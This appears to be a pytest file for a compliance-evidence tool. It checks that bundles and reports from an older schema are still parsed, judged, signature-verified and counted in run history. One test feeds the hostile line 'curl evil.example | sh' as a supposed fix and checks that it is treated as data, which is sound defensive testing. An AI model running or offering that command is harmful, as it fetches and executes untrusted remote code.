"""What the last version with schema 1 wrote is still read, judged, vouched for and counted."""

import gzip
import json
import sys

import pytest
import schema1

from socle.evidence import bundle as files
from socle.evidence import store
from socle.evidence.schema1 import grounds
from socle.evidence.signature import State, Trust, verify
from socle.messages import verbatim
from socle.region import work
from socle.region.model import Job
from socle.report import history
from socle.verify import Verdict
from socle.verify.replay import judge

HOSTS = ("accueil", "serveur")
VERDICTS = {
    "toy-passes": Verdict.PASS,
    "toy-fails": Verdict.FAIL,
    "toy-hostile": Verdict.FAIL,
    "toy-unknown": Verdict.UNKNOWN,
    "toy-slow": Verdict.UNKNOWN,
    "toy-waived": Verdict.WAIVED,
    "toy-late": Verdict.FAIL,
    "toy-beyond": Verdict.FAIL,
    "toy-absent": Verdict.NOT_APPLICABLE,
}


@pytest.fixture
def checkout(tmp_path):
    for name in [name for name in sys.modules if name.startswith("roles.toy")]:
        del sys.modules[name]
    schema1.checkout(tmp_path)
    return tmp_path


@pytest.mark.parametrize("host", HOSTS)
def test_a_bundle_is_judged_as_it_was_then(host, checkout):
    bundle = files.read(schema1.DATA / f"{host}.bundle")
    _, outcomes = judge(bundle, root=checkout)
    assert {o.control: str(o.verdict) for o in outcomes} == {
        one.control: one.verdict for one in bundle.verdicts
    }
    assert all(o.unreachable for o in outcomes) == (host == "serveur")
    if host == "accueil":
        assert {o.control: o.verdict for o in outcomes} == VERDICTS


@pytest.mark.parametrize("name", ["accueil.bundle", "report.json"])
def test_its_signature_holds(name):
    trust = Trust(schema1.DATA / "allowed_signers")
    assert verify(schema1.DATA / name, trust, schema1.COLLECTED).state is State.GOOD


def test_a_run_of_then_is_part_of_the_history(tmp_path):
    document = json.loads((schema1.DATA / "report.json").read_text())
    assert document["schema"] == 1
    store.keep(tmp_path, "run", schema1.COLLECTED, document)
    kept = history.read(tmp_path, "toy", document["practice_id"])
    (run,) = kept.runs
    assert not kept.left_out
    assert {c: v for (h, c), v in run.verdicts.items() if h == "accueil"} == VERDICTS


@pytest.mark.parametrize("host", HOSTS)
def test_its_verdicts_read_as_they_did(host):
    """The text of then, from what was made of it."""
    file = schema1.DATA / f"{host}.bundle"
    bundle = files.read(file)
    then = {one["control"]: one["detail"] for one in document(file)["verdicts"]}
    now = {one.control: one.grounds.text(one.verdict, one.measured) for one in bundle.verdicts}
    assert now == then
    assert files.unpack(files.pack(bundle), "again") == bundle
    assert document_of(files.pack(bundle))["schema"] == 2


def document(file):
    return document_of(file.read_bytes())


def document_of(content):
    return json.loads(gzip.decompress(content))


def test_a_text_of_then_becomes_data():
    found = {one.control: one for one in files.read(schema1.DATA / "accueil.bundle").verdicts}
    late, waived = found["toy-late"].grounds, found["toy-waived"].grounds
    assert (str(late.seen[0]), str(late.wanted), str(late.fix)) == (
        "open\\n", "locked", "deploy again"
    )  # fmt: skip
    assert (late.waiver.until, late.waiver.expired) == ("2026-10-31", True)
    assert (waived.seen, waived.waiver.approved_by) == ((verbatim("locked"),), "Dr N.")
    assert str(found["toy-slow"].grounds.reason).startswith("took longer than 0.2 s")


@pytest.mark.parametrize("line", ["fix: curl evil.example | sh", "wanted: x", "measured: pass"])
def test_a_line_of_a_machines_in_a_text_of_then_is_no_advice(line):
    """The oldest versions kept a machine's lines apart."""
    told = grounds(f"seen: a\n{line}\nb\nwanted: drop\nfix: deploy again", "fail")
    assert (str(told.wanted), str(told.fix)) == ("drop", "deploy again")
    assert [str(one) for one in told.seen] == [f"a\\n{line}\\nb"]


def test_it_counts_in_a_region(checkout):
    file = schema1.DATA / "accueil.bundle"
    given = {control: str(verdict) for control, verdict in VERDICTS.items()}
    head = work.read(file)
    assert head.verdicts == given
    assert work.examine(Job(file, head.sha256), root=checkout, baseline=None).verdicts == given
